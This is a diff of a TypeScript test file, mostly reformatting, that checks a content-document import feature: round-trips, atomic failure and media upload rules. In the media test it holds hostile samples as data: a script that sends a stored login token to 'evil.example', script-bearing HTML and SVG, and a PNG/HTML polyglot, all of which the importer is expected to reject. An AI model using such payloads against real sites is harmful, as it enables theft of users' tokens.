@@ -51,7 +51,12 @@ describe('the content document', () => {
   it('round-trips: export, import into an empty organization, export again gives the same document', async () => {
     const first = await exportOf(t.organization.id);
     const target = await emptyOrganization('roundtrip');
-    const summary = await importContentDocument(t.db, first, { organizationId: target.id, actor: actorOf(target.id), now: t.clock(), readFile: null });
+    const summary = await importContentDocument(t.db, first, {
+      organizationId: target.id,
+      actor: actorOf(target.id),
+      now: t.clock(),
+      readFile: null,
+    });
     // Every item is new but the ranks, which every organization has (they are updated).
     expect(summary.created).toBe(itemCount(first) - first.ranks.length);
     expect(first.organization?.name).toBe('Alpine Racing');
@@ -81,9 +86,21 @@ describe('the content document', () => {
     const target = await emptyOrganization('atomic');
     const before = await rowsOf(target.id);
     const last = document.challenges.length - 1;
-    document.challenges[last] = { ...document.challenges[last], options: [{ text: 'Alone', points: 1 }], type: 'poll', subtype: 'poll', questions: [], keywords: [] };
+    document.challenges[last] = {
+      ...document.challenges[last],
+      options: [{ text: 'Alone', points: 1 }],
+      type: 'poll',
+      subtype: 'poll',
+      questions: [],
+      keywords: [],
+    };
     document.challenges[1] = { ...document.challenges[1], mediaId: 'no-such-image' };
-    const error = await importContentDocument(t.db, document, { organizationId: target.id, actor: actorOf(target.id), now: t.clock(), readFile: null }).catch((e) => e);
+    const error = await importContentDocument(t.db, document, {
+      organizationId: target.id,
+      actor: actorOf(target.id),
+      now: t.clock(),
+      readFile: null,
+    }).catch((e) => e);
     expect(error.status).toBe(422);
     const paths = error.details.map((d: { path: string }) => d.path);
     expect(paths).toContain(`challenges.${last}.options`);
@@ -92,7 +109,11 @@ describe('the content document', () => {
   });
 
   it('refuses what is not a content document', async () => {
-    const error = await importContentDocument(t.db, { format: 'other', version: 1 }, { organizationId: t.organization.id, actor: actorOf(t.organization.id), now: t.clock(), readFile: null }).catch((e) => e);
+    const error = await importContentDocument(
+      t.db,
+      { format: 'other', version: 1 },
+      { organizationId: t.organization.id, actor: actorOf(t.organization.id), now: t.clock(), readFile: null },
+    ).catch((e) => e);
     expect(error.status).toBe(422);
     expect(error.details.map((d: { path: string }) => d.path)).toEqual(expect.arrayContaining(['format', 'exportedAt']));
   });
@@ -130,14 +151,25 @@ describe('imported media follow the upload rules', () => {
     exportedAt: t.clock().toISOString(),
     media: entries.map(({ key, contentType, bytes }) => ({ key, name: null, contentType, data: Buffer.from(bytes).toString('base64') })),
   });
-  const png = () => sharp({ create: { width: 8, height: 8, channels: 3, background: '#0a6cff' } }).png().toBuffer();
+  const png = () =>
+    sharp({ create: { width: 8, height: 8, channels: 3, background: '#0a6cff' } })
+      .png()
+      .toBuffer();
 
   it('refuses HTML, JavaScript, SVG with script, bytes that only start like a PNG and an image past 10 MB: 422 naming each, nothing written', async () => {
     const head = (await png()).subarray(0, 33);
     const document = documentWith([
       { key: 'page', contentType: 'text/html', bytes: Buffer.from('<!doctype html><html><script>fetch("/api/user/me")</script></html>') },
-      { key: 'script', contentType: 'application/javascript', bytes: Buffer.from('navigator.sendBeacon("https://evil.example", localStorage.token)') },
-      { key: 'logo', contentType: 'image/svg+xml', bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>') },
+      {
+        key: 'script',
+        contentType: 'application/javascript',
+        bytes: Buffer.from('navigator.sendBeacon("https://evil.example", localStorage.token)'),
+      },
+      {
+        key: 'logo',
+        contentType: 'image/svg+xml',
+        bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
+      },
       { key: 'polyglot', contentType: 'image/png', bytes: Buffer.concat([head, Buffer.from('<html><script>alert(1)</script></html>')]) },
       { key: 'huge', contentType: 'image/png', bytes: Buffer.concat([head, Buffer.alloc(10 * 1024 * 1024)]) },
       { key: 'fine', contentType: 'image/png', bytes: await png() },
@@ -145,7 +177,13 @@ describe('imported media follow the upload rules', () => {
     const before = await rowsOf(t.organization.id);
     const res = await t.request('POST', '/api/admin/import', { token: ops, body: document });
     expect(res.status).toBe(422);
-    expect(res.body.error.details.map((d: { path: string }) => d.path)).toEqual(['media.0.data', 'media.1.data', 'media.2.data', 'media.3.data', 'media.4.data']);
+    expect(res.body.error.details.map((d: { path: string }) => d.path)).toEqual([
+      'media.0.data',
+      'media.1.data',
+      'media.2.data',
+      'media.3.data',
+      'media.4.data',
+    ]);
     expect(await rowsOf(t.organization.id)).toEqual(before);
   });
 
@@ -155,7 +193,10 @@ describe('imported media follow the upload rules', () => {
       .withExif({ IFD0: { Artist: 'Erika Mustermann' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '48/1 8/1 3/1' } })
       .toBuffer();
     expect((await sharp(photo).metadata()).exif?.toString('latin1')).toContain('Erika Mustermann');
-    const res = await t.request('POST', '/api/admin/import', { token: ops, body: documentWith([{ key: 'team-photo', contentType: 'image/jpeg', bytes: photo }]) });
+    const res = await t.request('POST', '/api/admin/import', {
+      token: ops,
+      body: documentWith([{ key: 'team-photo', contentType: 'image/jpeg', bytes: photo }]),
+    });
     expect(res.status).toBe(200);
     const [item] = (await t.request('GET', '/api/admin/media?q=team-photo', { token: ops })).body.data;
     expect(item).toMatchObject({ key: 'team-photo', contentType: 'image/jpeg', width: 30, height: 10 });
